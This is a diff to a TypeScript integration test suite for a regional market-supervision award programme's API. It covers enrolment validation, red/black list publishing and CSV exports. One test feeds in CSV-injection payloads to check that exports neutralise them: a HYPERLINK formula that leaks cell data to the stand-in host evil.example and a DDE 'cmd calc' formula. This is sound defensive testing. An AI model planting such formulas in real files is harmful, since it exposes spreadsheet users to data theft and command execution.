@@ -1,7 +1,10 @@
 // The Changxing programme through the REST API: enrolment by CSV (all lines or none) and by filter, the
 // 70/30 weight rule at launch, scoring by evaluation groups, the 公示 with objections, the award, titles
-// revoked or complained about, 红黑榜 publications, the summary report, and next year's campaign.
+// revoked or complained about, 红黑榜 publications (only where the programme allows them, never the same
+// list twice), the summary report, CSV exports safe from formula injection, and next year's campaign.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import type { RosterEntry } from '../activities/award.js';
 import { startHarness, uniqueYear, waitFor, type Harness } from './helpers.js';
 import { startApi, type Api } from './api-helpers.js';
 import { calendarOpenAt } from './helpers-campaign.js';
@@ -62,13 +65,30 @@ describe('Changxing through the API', () => {
     expect(refused.body.fields.map((f: { row: number }) => f.row)).toEqual([3, 4, 5, 6, 7]);
     expect(refused.body.fields.map((f: { messageEn: string }) => f.messageEn)).toEqual([
       expect.stringMatching(/line 3: .* is not registered in 330522/),
-      expect.stringMatching(/line 4: USCC .* is invalid/),
+      expect.stringMatching(/line 4: USCC .* is invalid: the check character is wrong, it should be [0-9A-Z]$/),
       expect.stringMatching(/line 5: .* repeats line 2/),
       expect.stringMatching(/line 6: .*track must be one of/),
       expect.stringMatching(/line 7: .* already enrolled/),
     ]);
     expect(refused.body.messageZh).toContain('未纳入任何经营主体');
     expect(await h.db.case.count({ where: { campaignId: id } })).toBe(1);
+    // Enrolment by USCC names the rule each bad code breaks (GB 32100-2015), in both languages.
+    const good7 = await uscc('op-cx-007');
+    const codes = [good7.slice(0, 17), `${good7.slice(0, 9)}O${good7.slice(10)}`, `${good7.slice(0, 2)}AB${good7.slice(4)}`, `${good7.slice(0, 17)}${good7[17] === '0' ? '1' : '0'}`];
+    const reasons = await post('coord.changxing', path, { operators: codes.map((u) => ({ uscc: u })) });
+    expect(reasons.status).toBe(400);
+    expect(reasons.body.fields.map((f: { messageZh: string }) => f.messageZh)).toEqual([
+      `统一社会信用代码「${codes[0]}」无效：长度应为 18 位（现为 17 位）`,
+      `统一社会信用代码「${codes[1]}」无效：含不允许的字符「O」（只用数字和大写字母，不使用 I、O、S、V、Z）`,
+      `统一社会信用代码「${codes[2]}」无效：第 3–8 位应为行政区划码（6 位数字），现为「AB${good7.slice(4, 8)}」`,
+      `统一社会信用代码「${codes[3]}」无效：校验位错误，应为「${good7[17]}」`,
+    ]);
+    expect(reasons.body.fields.map((f: { messageEn: string }) => f.messageEn)).toEqual([
+      `USCC "${codes[0]}" is invalid: it must be 18 characters long, not 17`,
+      `USCC "${codes[1]}" is invalid: it contains "O" (only digits and capital letters, never I, O, S, V or Z)`,
+      `USCC "${codes[2]}" is invalid: characters 3–8 must be the administrative division code (6 digits), not "AB${good7.slice(4, 8)}"`,
+      `USCC "${codes[3]}" is invalid: the check character is wrong, it should be ${good7[17]}`,
+    ]);
 
     // The same as the bureau's spreadsheet export, raw text/csv with a BOM.
     const good = `\uFEFF统一社会信用代码,赛道\n${await uscc('op-cx-002')},直播营销\n${await uscc('op-cx-003')},community_group_buying\n`;
@@ -123,6 +143,16 @@ describe('Changxing through the API', () => {
     }, 'totals');
     expect(cases.map((c: { totalScore: number }) => c.totalScore)).toEqual([90, 86]);
 
+    // 红黑榜 are official publications: not before the award is final (nor 总结提升 open), with the reason.
+    const early = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
+    expect(early.status).toBe(409);
+    expect(early.body).toMatchObject({
+      messageZh: '红黑榜须在授予名单确定后或「总结提升」阶段进行期间发布：授予名单尚未确定，「总结提升」阶段尚未开始',
+      messageEn: 'a red or black list is published once the award is final or while stage summary (Summary) is open: the award is not final, stage summary has not started',
+    });
+    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({ allowed: false, messageZh: early.body.messageZh, messageEn: early.body.messageEn });
+    expect(await h.db.roster.count({ where: { campaignId: id, kind: { in: ['red', 'black'] } } })).toBe(0);
+
     // 公示 for a short window; objections only by the coordinator, resolved before the list is final.
     expect((await post('officer.zhicheng', `/campaigns/${cid}/publicity`, { days: 5 })).status).toBe(403);
     const windowEndsAt = Date.now() + 4000;
@@ -140,6 +170,11 @@ describe('Changxing through the API', () => {
     const award = await post('coord.changxing', `/campaigns/${cid}/award`);
     expect(award.status).toBe(201);
     expect(award.body.titles).toBe(2);
+    // Once the award is final the red list may be published: both titles are in force.
+    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toMatchObject({ allowed: true, messageEn: 'may be published: the award is final' });
+    const red = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
+    expect(red.status, JSON.stringify(red.body)).toBe(201);
+    expect(red.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([a, d]);
 
     // Titles are seen and acted on within jurisdiction; revocation needs a ground of the notice.
     const mine = await api.call('GET', `/titles?${q({ campaignId: id })}`, as('officer.zhicheng'));
@@ -161,14 +196,21 @@ describe('Changxing through the API', () => {
     expect(trail.body.map((e: { action: string }) => e.action)).toEqual(expect.arrayContaining(['case.enrolled', 'task.completed', 'case.scored', 'objection.dismissed', 'title.granted', 'title.revoked']));
     expect(trail.body.filter((e: { action: string }) => e.action !== 'task.created').every((e: { clause: string | null }) => e.clause?.startsWith('长兴方案'))).toBe(true);
 
-    // 红黑榜: dated publications, each entry citing its ground; a newer one supersedes.
-    const red = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
-    expect(red.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([d]);
+    // 红黑榜: dated publications, each entry citing its ground; a newer one supersedes (a's title revoked).
     const black = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'black' });
     expect(black.body.entries).toEqual([expect.objectContaining({ caseId: a, ground: 'listed_dishonest', groundName: expect.stringContaining('经营异常名录') })]);
     const red2 = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
     expect(red2.body.seq).toBe(2);
+    expect(red2.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([d]);
     expect((await api.call('GET', `/rosters/${encodeURIComponent(red.body.id)}`, as('leader.changxing'))).body.superseded).toBe(true);
+    // The same entries again are not a new publication.
+    for (const [kind, seq, name] of [['red', 2, '红榜'], ['black', 1, '黑榜']] as const) {
+      const again = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind });
+      expect(again.status).toBe(409);
+      expect(again.body.messageZh).toMatch(new RegExp(`^与现行${name}（第 ${seq} 期，\\d{4}-\\d{2}-\\d{2} 发布）内容相同，无需重新发布$`));
+      expect(again.body.messageEn).toMatch(/nothing new to publish$/);
+    }
+    expect(await h.db.roster.count({ where: { campaignId: id, kind: { in: ['red', 'black'] } } })).toBe(3);
     expect((await post('officer.zhicheng', `/campaigns/${cid}/rosters`, { kind: 'red' })).status).toBe(403);
     const csv = await api.call('GET', `/rosters/${encodeURIComponent(black.body.id)}/csv`, as('leader.changxing'));
     expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
@@ -210,5 +252,62 @@ describe('Changxing through the API', () => {
     expect(Object.fromEntries(flags.body.map((o: { id: string; flags: { kind: string; campaignId: string }[] }) => [o.id, fromThisCampaign(o)]))).toEqual({ 'op-cx-001': ['revoked'], 'op-cx-002': ['title_holder'] });
     expect(JSON.stringify(await h.db.campaign.findUniqueOrThrow({ where: { id } }))).toBe(before);
     for (const c of [id, launched.body.id]) await h.env.client.workflow.getHandle(`campaign-${c}`).terminate('test done');
+  });
+
+  it('publishes 红黑榜 while 总结提升 is open even before an award, and not while 集中治理 is', async () => {
+    const launchBare = async (openKey: string) => {
+      const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', stages: calendarOpenAt(openKey), reminderLeadHours: 0 });
+      expect(r.status, JSON.stringify(r.body)).toBe(201);
+      await waitFor(() => h.db.stage.findFirst({ where: { campaignId: r.body.id, key: openKey, status: 'open' } }), `${openKey} open`);
+      return r.body.id as string;
+    };
+    const [during, summary] = [await launchBare('rectification'), await launchBare('summary')];
+    const refused = await post('coord.changxing', `/campaigns/${encodeURIComponent(during)}/rosters`, { kind: 'black' });
+    expect(refused.status).toBe(409);
+    expect(refused.body.messageZh).toContain('「总结提升」阶段尚未开始');
+    const sid = encodeURIComponent(summary);
+    expect((await api.call('GET', `/campaigns/${sid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({ allowed: true, messageZh: '可以发布：「总结提升」阶段进行中', messageEn: 'may be published: stage summary is open' });
+    const black = await post('coord.changxing', `/campaigns/${sid}/rosters`, { kind: 'black' });
+    expect(black.status, JSON.stringify(black.body)).toBe(201);
+    expect(black.body).toMatchObject({ kind: 'black', seq: 1, entries: [] });
+    expect((await post('coord.changxing', `/campaigns/${sid}/rosters`, { kind: 'black' })).status).toBe(409); // the same (empty) list
+    const audit = await h.db.auditEvent.findMany({ where: { campaignId: summary, action: 'roster.published' } });
+    expect(audit.map((e) => [e.entityId, e.actorId, e.clause])).toEqual([[black.body.id, 'u-coord-changxing', '长兴方案 四、工作要求（三）（红黑榜，定期公示）']]);
+    for (const c of [during, summary]) await h.env.client.workflow.getHandle(`campaign-${c}`).terminate('test done');
+  });
+
+  it('writes formula-like cells of its CSVs as text (OWASP CSV injection): a leading quote, numbers kept', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
+    const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', name: formula, stages: calendarOpenAt('mobilization'), reminderLeadHours: 0 });
+    expect(r.status, JSON.stringify(r.body)).toBe(201);
+    const id = r.body.id as string;
+    // Lists as a hostile register would make them (names and codes are typed by people outside the bureau).
+    const entry = (n: number, over: Partial<RosterEntry>): RosterEntry => ({ caseId: `${id}:x${n}`, operatorId: `x${n}`, operatorName: `主体${n}`, uscc: '', jurisdictionId: '330522001', jurisdictionName: '雉城市场监管所', track: null, totalScore: 90, ground: 'title', groundName: '称号有效', since: '2100-01-01', ...over });
+    const entries = [
+      entry(1, { operatorName: formula, uscc: '+8613800000000', totalScore: -3 }),
+      entry(2, { operatorName: '@SUM(A1:A9)', uscc: '-1+1', track: '\t=1+1', groundName: '\r=cmd|\'/c calc\'!A1' }),
+      entry(3, { operatorName: '普通主体 = 正常', groundName: 'a-b' }),
+    ];
+    await h.db.roster.createMany({ data: ['red', 'award'].map((kind) => ({ id: `${id}:${kind}:1`, campaignId: id, kind, seq: 1, publishedAt: new Date(), publishedById: 'u-coord-changxing', entries: entries as object[] })) });
+    const download = async (path: string) => {
+      const res = await fetch(`${api.url}/api${path}`, { headers: { authorization: `Bearer ${tokens['leader.changxing']}` } });
+      expect(res.status).toBe(200);
+      const text = Buffer.from(await res.arrayBuffer()).toString('utf8');
+      expect(text.startsWith('\uFEFF')).toBe(true);
+      return { text, rows: parse(text.slice(1), { relax_column_count: true }) as string[][] };
+    };
+    const roster = await download(`/rosters/${encodeURIComponent(`${id}:red:1`)}/csv`);
+    expect(roster.rows.slice(1)).toEqual([
+      ['1', `'${formula}`, "'+8613800000000", '雉城市场监管所', '', '-3', '称号有效', '2100-01-01'],
+      ['2', "'@SUM(A1:A9)", "'-1+1", '雉城市场监管所', "'\t=1+1", '90', "'\r=cmd|'/c calc'!A1", '2100-01-01'],
+      ['3', '普通主体 = 正常', '', '雉城市场监管所', '', '90', 'a-b', '2100-01-01'],
+    ]);
+    expect(roster.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"`); // quoted as well
+    const summary = await download(`/campaigns/${encodeURIComponent(id)}/summary/csv`);
+    expect(summary.rows[0]).toEqual([`'${formula}`]);
+    const awarded = summary.rows.slice(summary.rows.findIndex((row) => row[0] === '授予名单') + 1);
+    expect(awarded.map((row) => row[0])).toEqual([`'${formula}`, "'@SUM(A1:A9)", '普通主体 = 正常']);
+    expect(awarded[0]).toEqual([`'${formula}`, "'+8613800000000", '雉城市场监管所', '-3']);
+    await h.env.client.workflow.getHandle(`campaign-${id}`).terminate('test done');
   });
 });
